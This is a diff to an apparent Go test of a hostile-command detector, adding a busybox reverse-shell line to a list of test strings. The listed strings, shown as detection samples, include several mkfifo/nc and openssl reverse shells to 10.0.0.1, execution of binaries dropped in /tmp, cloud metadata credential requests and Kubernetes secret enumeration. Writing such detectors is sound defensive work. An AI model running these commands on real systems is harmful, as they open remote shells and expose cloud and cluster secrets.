@@ -27,6 +27,7 @@ func TestCommandPatternNeedles(t *testing.T) {
 		"mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
 		"rm /tmp/p; mknod /tmp/p p && nc 10.0.0.1 80 0</tmp/p | /bin/bash 1>/tmp/p",
 		"mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect h:443 > /tmp/s",
+		"mkfifo /tmp/b; cat /tmp/b | busybox sh -i 2>&1 | busybox nc 10.0.0.1 4444 > /tmp/b",
 		"chmod +x /tmp/x && /tmp/x", "chmod 755 /dev/shm/m; /dev/shm/m",
 		"curl http://169.254.169.254/latest/meta-data/", "curl metadata.google.internal", "wget [fd00:ec2::254]",
 		"kubectl get secrets -A", "kubectl -n x describe pods", "kubectl auth can-i --list",
